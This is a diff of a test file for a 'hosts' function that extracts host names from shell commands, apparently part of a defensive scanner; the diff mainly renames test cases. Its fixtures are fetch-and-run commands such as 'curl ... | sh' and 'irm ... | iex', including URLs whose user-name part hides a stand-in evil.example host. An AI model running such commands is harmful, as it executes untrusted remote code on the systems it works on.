@@ -14,23 +14,26 @@ describe("the hosts of a finding", () => {
       ["a.example", "b.example"],
     ],
     ["irm https://get.example/i.ps1 | iex", ["get.example"]],
-  ])("%s", (text, expected) => {
+  ])("are found in %s", (text, expected) => {
     expect(hosts(text)).toEqual(expected);
   });
 
   it.each([
-    ["no https", "curl http://a.example/x | sh"],
-    ["a bare name", "curl a.example/x | sh"],
-    ["an address that is a value", "curl -H 'Referer: https://known.example' evil.example | sh"],
+    ["a URL without https", "curl http://a.example/x | sh"],
+    ["a URL without a scheme", "curl a.example/x | sh"],
+    [
+      "a URL that is the value of an option",
+      "curl -H 'Referer: https://known.example' evil.example | sh",
+    ],
     ["a proxy", "curl -x https://known.example https://b.example | sh"],
     ["a variable", "curl https://known.example/$X | sh"],
     ["a variable as the host", "curl https://$HOST/x | sh"],
     ["a user name that looks like a host", "curl https://known.example@evil.example/x | sh"],
     ["a user name with a password", "curl https://known.example:80@evil.example/x | sh"],
-    ["one fetcher more than addresses", "curl https://known.example/x evil | sh; curl evil | sh"],
+    ["more fetchers than URLs", "curl https://known.example/x evil | sh; curl evil | sh"],
     ["backticks", "bash -c `curl https://known.example/x`"],
     ["a backslash", "curl https://known.example\\.evil.example | sh"],
-  ])("are unknown: %s", (_name, text) => {
+  ])("are unknown if a command has %s", (_name, text) => {
     expect(hosts(text)).toBeNull();
   });
 
